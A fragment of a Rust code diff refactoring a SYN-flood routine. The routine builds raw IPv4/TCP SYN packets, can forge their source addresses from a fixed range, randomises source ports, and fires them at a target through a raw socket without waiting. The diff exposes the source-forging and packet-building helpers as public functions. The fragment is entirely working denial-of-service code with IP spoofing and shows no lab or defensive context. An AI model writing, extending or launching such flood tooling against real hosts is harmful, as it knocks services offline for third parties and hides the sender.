@@ -60,9 +60,9 @@ pub fn flood(
                 state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
                 let from = match source {
                     Source::Own(ip) => ip,
-                    Source::Forged => Ipv4Addr::from(NOBODYS + (state >> 8) % NOBODYS_HOSTS),
+                    Source::Forged => forged(state >> 8),
                 };
-                let packet = syn(SocketAddrV4::new(from, 1024 + (state >> 16) as u16 / 2), to);
+                let packet = packet(SocketAddrV4::new(from, 1024 + (state >> 16) as u16 / 2), to);
                 // A full queue is part of a flood.
                 let _ = sendto(fd.as_raw_fd(), &packet, &target, MsgFlags::MSG_DONTWAIT);
                 sent += 1;
@@ -73,8 +73,15 @@ pub fn flood(
     })
 }
 
+/// One of the forged sources.
+#[must_use]
+pub fn forged(nth: u32) -> Ipv4Addr {
+    Ipv4Addr::from(NOBODYS + nth % NOBODYS_HOSTS)
+}
+
 /// An IPv4 packet with a TCP SYN.
-fn syn(from: SocketAddrV4, to: SocketAddrV4) -> [u8; 40] {
+#[must_use]
+pub fn packet(from: SocketAddrV4, to: SocketAddrV4) -> [u8; 40] {
     let mut packet = [0u8; 40];
     packet[0] = 0x45;
     packet[2..4].copy_from_slice(&40u16.to_be_bytes());
